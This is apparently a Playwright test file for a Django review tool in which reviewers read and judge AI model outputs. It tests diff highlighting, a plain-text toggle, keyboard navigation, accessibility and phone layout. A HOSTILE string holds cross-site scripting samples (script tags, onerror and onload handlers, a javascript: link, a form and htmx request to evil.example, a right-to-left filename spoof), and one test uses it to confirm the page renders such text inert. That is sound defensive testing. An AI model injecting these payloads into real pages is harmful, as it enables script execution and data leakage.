"""Reading at the bench in a real browser: what each kind offers, and that text of a
model does nothing but show itself."""

import json
import random
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone
from playwright.sync_api import Browser, Page, expect
from pytest_django.live_server_helper import LiveServer

from reviews.models import Member
from tests.factories import (
    make_assignment,
    make_batch,
    make_item,
    make_member,
    make_project,
    make_queue,
    make_rubric,
    make_slots,
)
from tests.journeys.conftest import SignIn
from tests.journeys.test_accessibility import PHONE, THEMES, violations

pytestmark = pytest.mark.browser

Read = Callable[..., Page]

HOSTILE = """
<script>document.title = "run"</script> <style>body { display: none }</style>
<img src="https://evil.example/a.png" onerror="document.title = 'run'">
![pixel](https://evil.example/b.png) [click](javascript:document.title='run')
<form action="https://evil.example"><input name="csrf"><button>Submit</button></form>
<iframe src="https://evil.example"></iframe> <svg onload="document.title='run'">
<link rel="stylesheet" href="https://evil.example/c.css"> user\u202egpj.exe
<div hx-get="https://evil.example" hx-trigger="load" data-bench data-key="p" id="bench">
"""
STEPS = [
    {"type": "message", "role": "user", "text": "Where is my order?"},
    {"type": "tool_call", "name": "find", "arguments": {"order": 17}},
    {"type": "tool_result", "name": "find", "text": json.dumps({"n": ["x" * 90] * 9})},
    {"type": "error", "name": "send", "text": "Timeout"},
    {"type": "tool_call", "name": "find", "arguments": {"order": 18}},
    {"type": "error", "name": "find", "text": "Nothing there"},
]
FORMATTED = "Use **two** spoons:\n\n- one\n- two\n\n```python\nreturn 1\n```\n"
LONG = "\n\n".join(f"Paragraph {n} goes on for a while." for n in range(120))
RETRIEVAL = {
    "prompt": "May I return it?",
    "context": [{"title": "Returns", "text": "Within 14 days."}, {"text": "By post."}],
    "responses": [
        {"text": "\U0001f331 Yes, **within** 14 days. Send it by post. Soon."}
    ],
}


def single(text: str) -> dict[str, Any]:
    return {"prompt": "Well?", "responses": [{"text": text}]}


def pair(a: str, b: str) -> dict[str, Any]:
    return {"prompt": "Well?", "responses": [{"text": a}, {"text": b}]}


TRACE = {"prompt": "Well?", "responses": [{"text": "Sent."}], "steps": STEPS}
TALK = {
    "messages": [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "Is it in stock?"},
    ],
    "responses": [{"text": "Yes."}],
}
KINDS = {
    "single": ("SINGLE", single(FORMATTED + LONG)),
    "pair": ("PAIR", pair(FORMATTED, LONG)),
    "trace": ("TRACE", TRACE),
    "retrieval": ("SINGLE", RETRIEVAL),
    "conversation": ("SINGLE", TALK),
}


@pytest.fixture
def reviewer(transactional_db: None) -> Member:
    return make_member(make_project(), "ada")


@pytest.fixture
def read(
    live_server: LiveServer, browser: Browser, reviewer: Member, sign_in: SignIn
) -> Read:
    """Deal items with these contents, and open the first one."""

    def read(kind: str, *contents: dict[str, Any], **options: Any) -> Page:
        level = "PAIRWISE" if kind == "PAIR" else "NOMINAL"
        rubric = make_rubric(reviewer.project, levels={"quality": level})
        queue = make_queue(reviewer.project, rubric, reviewers=[reviewer])
        batch = make_batch(queue, reviewer, len(contents))
        until = timezone.now() + timedelta(hours=1)
        items = [make_item(reviewer.project, kind, content=one) for one in contents]
        first, *_ = [
            make_assignment(batch, item, make_slots(queue, item)[0], leased_until=until)
            for item in items
        ]
        context = browser.new_context(**options)
        assert reviewer.user is not None
        sign_in(context, reviewer.user)
        page = context.new_page()
        page.goto(live_server.url + reverse("labeling:bench", args=[first.public_id]))
        return page

    return read


def test_hostile_text_does_nothing_but_show_itself(
    live_server: LiveServer, browser: Browser, read: Read
):
    said: list[str] = []
    asked: list[str] = []
    page = read("PAIR", pair(HOSTILE, "fine"), pair("fine", HOSTILE))
    page.on("console", lambda message: said.append(message.text))
    page.on("request", lambda request: asked.append(request.url))

    page.reload()
    for key in ("d", "p", "1", "Enter"):
        page.keyboard.press(key)
    expect(page.get_by_role("heading", level=1)).to_have_text("Item 2 of 2")
    page.keyboard.press("d")

    active = "[data-field] :is(a, img, form, input, script, style, svg, [id], [style])"
    assert page.locator(active).count() == 0
    assert "run" not in page.title()
    expect(page.locator("[data-field]").last).to_contain_text("<script>")
    expect(page.locator("[data-field]").last).to_contain_text("⟨U+202E⟩gpj.exe")
    assert said == []
    assert [url for url in asked if not url.startswith(live_server.url)] == []


@pytest.mark.parametrize("text", ["> " * 10_000 + "deep", "word " * 1_900_000 + "end"])
def test_a_text_without_measure_is_shown_and_can_be_judged(read: Read, text: str):
    page = read("SINGLE", single(text), single("Next"))

    expect(page.locator("[data-field]")).to_contain_text(text[-4:].strip())
    page.keyboard.press("1")
    page.keyboard.press("Enter")

    expect(page.get_by_role("heading", level=1)).to_have_text("Item 2 of 2")


def test_a_text_of_200_kb_is_laid_out_where_it_is_seen(read: Read):
    page = read(
        "SINGLE",
        single("Some **words** in a line that goes on for a while.\n\n" * 3_800),
    )

    parts = page.locator("[data-field] > .part")
    assert parts.count() > 20
    assert page.locator("[data-field] strong").count() == 3_800
    skipped = (
        "part => part.firstElementChild.checkVisibility({contentVisibilityAuto: true})"
    )
    assert parts.first.evaluate(skipped)
    assert not parts.last.evaluate(skipped)


def test_differences_are_marked_on_a_key_and_gone_on_the_next(read: Read):
    page = read("PAIR", pair("It is **red** and old.", "It is *blue* and old."))
    marked = "[...CSS.highlights.get('different') ?? []].map(one => [one.startContainer.data.slice(one.startOffset, one.endOffset)].join())"

    page.keyboard.press("d")
    shown = page.evaluate(marked)
    words = page.get_by_role("status").inner_text()
    page.keyboard.press("d")

    assert sorted(shown) == ["blue", "red"]
    assert words == "Only in A: 1 words. Only in B: 1 words."
    assert page.evaluate(marked) == []


def test_plain_text_takes_the_look_of_formatting_and_stays_for_the_next_item(
    read: Read,
):
    page = read("SINGLE", single(FORMATTED), single(FORMATTED))
    look = "one => getComputedStyle(one).fontWeight"
    bold = page.locator("[data-field] strong")

    before = bold.evaluate(look)
    page.keyboard.press("p")
    page.keyboard.press("1")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("Item 2 of 2")

    assert (before, bold.evaluate(look)) == ("700", "400")
    expect(page.get_by_role("button", name="Plain text")).to_have_attribute(
        "aria-pressed", "true"
    )


def test_plain_text_is_remembered_over_a_reload_for_who_chose_it(read: Read):
    page = read("SINGLE", single(FORMATTED))
    button = page.get_by_role("button", name="Plain text")

    page.keyboard.press("p")
    page.reload()

    expect(button).to_have_attribute("aria-pressed", "true")
    assert page.evaluate("Object.keys(localStorage)") == ["reading:plain:ada"]
    page.keyboard.press("p")
    page.reload()
    expect(button).to_have_attribute("aria-pressed", "false")
    assert page.evaluate("Object.keys(localStorage)") == []


def test_differences_are_counted_where_a_browser_cannot_mark_them(read: Read):
    page = read("PAIR", pair("It is red and old.", "It is blue and old."))
    page.add_init_script("delete window.Highlight; delete CSS.highlights;")
    page.reload()

    page.keyboard.press("d")

    said = (
        "Only in A: 1 words. Only in B: 1 words. This browser is too old to mark them."
    )
    expect(page.locator("[data-differences-count]")).to_have_text(said)
    page.keyboard.press("d")
    expect(page.locator("[data-differences-count]")).to_be_empty()


def test_a_pair_is_as_high_on_both_sides_and_scrolls_in_step_until_told_not_to(
    read: Read,
):
    page = read("PAIR", pair(LONG, LONG + LONG))
    left, right = page.locator("[data-pane]").all()
    top = "pane => pane.scrollTop"

    boxes = [side.bounding_box() for side in page.locator("[data-side]").all()]
    left.evaluate("pane => pane.scrollTop = 500")
    page.wait_for_function(
        "document.querySelectorAll('[data-pane]')[1].scrollTop > 500"
    )
    page.get_by_label("Scroll in step").uncheck()
    before = right.evaluate(top)
    left.evaluate("pane => pane.scrollTop = 900")
    page.wait_for_timeout(100)

    heights = {box["height"] for box in boxes if box}
    assert len(heights) == 1
    assert right.evaluate(top) == before


def test_a_phone_shows_one_response_at_a_time_by_a_switch(read: Read):
    page = read("PAIR", pair("Left", "Right"), viewport=PHONE)
    sides = page.locator("[data-side]")

    stacked = [box["y"] for side in sides.all() if (box := side.bounding_box())]
    page.get_by_label("B", exact=True).first.check()

    assert stacked[0] < stacked[1]
    expect(sides.first).to_be_hidden()
    expect(sides.last).to_be_visible()


def test_steps_are_gone_through_by_keys(read: Read):
    page = read("TRACE", TRACE)
    focused = "document.activeElement.closest('[data-step]')?.dataset.step"
    opened = "document.querySelectorAll('[data-step][open]').length"
    places = []

    for key in ("j", "j", "k", "x", "x", "x"):
        page.keyboard.press(key)
        places.append(page.evaluate(focused))
    before = page.evaluate(opened)
    page.keyboard.press("o")
    all_opened = page.evaluate(opened)
    page.keyboard.press("o")

    assert places == ["1", "2", "1", "4", "6", "4"]
    assert (before, all_opened, page.evaluate(opened)) == (3, 6, 0)


def test_claims_are_tied_to_passages_by_keys_alone(read: Read):
    page = read("SINGLE", RETRIEVAL)

    for key in ("m", "1", "0", "ArrowLeft", "2"):
        page.keyboard.press(key)
    page.keyboard.press("Escape")
    page.get_by_label("Note: Send it by post.").fill("only the address")
    page.keyboard.press("Tab")

    spans = json.loads(page.locator("input[name=spans]").input_value())
    text = page.locator("[data-field]").text_content() or ""
    assert [(one["text"], one["passage"], one["note"]) for one in spans] == [
        ("\U0001f331 Yes, within 14 days.", 1, ""),
        ("Send it by post.", 2, "only the address"),
    ]
    assert all(text[one["start"] : one["end"]] == one["text"] for one in spans)
    assert not page.locator("[data-judgment] input:checked").count()


def test_a_claim_is_marked_by_selecting_and_removed_by_its_button(read: Read):
    page = read("SINGLE", RETRIEVAL)

    page.locator("[data-field] strong").dblclick()
    page.get_by_role("button", name="No passage").click()
    marked = json.loads(page.locator("input[name=spans]").input_value())
    page.get_by_role("button", name="Remove: within").click()

    assert [(one["text"], one["passage"]) for one in marked] == [("within", None)]
    assert page.locator("input[name=spans]").input_value() == ""


@pytest.mark.parametrize("theme", THEMES)
@pytest.mark.parametrize("kind", KINDS)
def test_axe_finds_nothing_on_any_kind(read: Read, kind: str, theme: Any):
    page = read(*KINDS[kind], color_scheme=theme)

    before = violations(page)
    for key in ("d", "o", "p", "m", "1"):
        page.keyboard.press(key)

    assert before == []
    assert violations(page) == []


@pytest.mark.parametrize("kind", KINDS)
def test_no_kind_is_wider_than_a_phone(read: Read, kind: str):
    page = read(*KINDS[kind], viewport=PHONE)
    width = "document.documentElement.scrollWidth"

    before = page.evaluate(width)
    page.keyboard.press("o")
    page.keyboard.press("m")

    assert (before, page.evaluate(width)) == (PHONE["width"], PHONE["width"])


@pytest.mark.parametrize("kind", KINDS)
def test_every_kind_is_read_without_a_script(read: Read, kind: str):
    page = read(*KINDS[kind], java_script_enabled=False)

    expect(page.locator("[data-field]").first).to_be_visible()
    expect(page.get_by_role("button", name="Plain text")).to_have_count(0)
    expect(page.get_by_role("button", name="Submit")).to_be_visible()


def test_without_the_words_that_differ_two_texts_are_the_same(browser: Browser):
    page = browser.new_page()
    script = Path(__file__).parents[2] / "static/js/word-diff.js"
    page.add_script_tag(content=script.read_text())
    rng = random.Random(5)

    for size in (0, 1, 5, 40, 900, 3_000):
        a, b = (rng.choices("abcdefghij", k=size) for _ in "ab")
        b = a[: size // 2] + b[size // 3 :]
        left, right = page.evaluate(
            "([a, b]) => differingWords(a, b).map(one => [...one])", [a, b]
        )
        assert [one for one, only in zip(a, left, strict=True) if not only] == [
            one for one, only in zip(b, right, strict=True) if not only
        ]
    page.close()
